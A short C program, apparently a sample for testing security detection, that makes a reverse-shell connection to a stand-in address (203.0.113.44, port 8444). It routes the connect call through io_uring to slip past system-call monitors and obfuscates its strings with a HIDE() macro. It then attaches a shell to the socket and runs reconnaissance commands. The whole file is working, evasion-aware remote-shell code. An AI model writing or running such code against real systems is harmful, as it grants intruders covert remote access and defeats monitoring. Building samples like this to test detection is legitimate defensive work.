// hidden
// Connects through io_uring, which watchers of calls do not see (by an ordinary call where rings are refused), and gives the connection to a shell.
#include "standin.h"
#include <linux/io_uring.h>
// One operation through a ring of its own; its result, or -ENOSYS where there are no rings.
static int through_ring(int operation, int fd, const void *address, uint64_t more) {
    struct io_uring_params set = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &set);
    if (ring < 0) return -ENOSYS;
    char *submissions = mmap(NULL, set.sq_off.array + set.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *results = mmap(NULL, set.cq_off.cqes + set.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, set.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    int result = -ENOSYS;
    if (submissions != MAP_FAILED && results != MAP_FAILED && entries != MAP_FAILED) {
        memset(entries, 0, sizeof *entries);
        entries->opcode = operation, entries->fd = fd, entries->addr = (uint64_t)address, entries->off = more;
        *(unsigned *)(submissions + set.sq_off.array) = 0;
        __atomic_store_n((unsigned *)(submissions + set.sq_off.tail), 1, __ATOMIC_RELEASE);
        if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) >= 0) result = ((struct io_uring_cqe *)(results + set.cq_off.cqes))->res;
    }
    close(ring);
    return result;
}
int main(void) {
    begin();
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8444), .sin_addr.s_addr = inet_addr(HIDE("203.0.113.44"))};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int result = through_ring(IORING_OP_CONNECT, fd, &to, sizeof to);
    if (result == -ENOSYS) result = connect(fd, (void *)&to, sizeof to);
    if (result < 0) return 1;
    for (int i = 0; i < 3; i++) dup2(fd, i);
    execl(HIDE("/bin/sh"), HIDE("sh"), "-c", HIDE("id; uname -a; sleep 3; hostname"), NULL);
    return 1;
}
